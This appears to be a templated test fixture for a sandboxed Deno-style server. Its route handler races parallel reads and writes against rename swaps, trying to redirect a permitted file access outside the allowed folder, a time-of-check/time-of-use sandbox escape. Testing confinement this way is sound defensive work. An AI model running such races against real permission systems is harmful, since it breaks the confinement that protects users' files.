// attack: moves a link to where a file was that is being read
// worker: held
// process: held
// drive: link, get
// permissions: { "read": ["%FOLDER%"], "write": ["%FOLDER%"] }
routerAdd("GET", "/attack/%NAME%", async (e) => {
  const found = [];
  const attempt = async (what, fn) => {
    try { found.push([what, await fn()]) } catch (error) { found.push([what, "refused: " + error]) }
  };
  const g = "%FOLDER%";
  const tryTo = (fn) => { try { return fn() } catch {} };
  Deno.mkdirSync(g + "/inner", { recursive: true });
  Deno.writeTextFileSync(g + "/inner/secret.txt", "mine");
  for (let i = 0; i < 25; i++) {
    const reads = [];
    for (let k = 0; k < 6; k++) reads.push(Deno.readTextFile(g + "/a.txt").catch(String), Deno.readTextFile(g + "/inner/secret.txt").catch(String));
    tryTo(() => Deno.renameSync(g + "/a.txt", g + "/b.txt"));
    tryTo(() => Deno.renameSync(g + "/escape", g + "/a.txt"));
    tryTo(() => Deno.renameSync(g + "/inner", g + "/old"));
    tryTo(() => Deno.renameSync(g + "/folder", g + "/inner"));
    const writes = [Deno.writeTextFile(g + "/a.txt", "granted").catch(String)];
    for (const text of await Promise.all([...reads, ...writes])) if (!found.includes(text)) found.push(text);
    tryTo(() => Deno.renameSync(g + "/a.txt", g + "/escape2"));
    tryTo(() => Deno.renameSync(g + "/inner", g + "/folder"));
    tryTo(() => Deno.renameSync(g + "/old", g + "/inner"));
    tryTo(() => Deno.renameSync(g + "/b.txt", g + "/a.txt"));
  }
  return e.json(200, found);
});
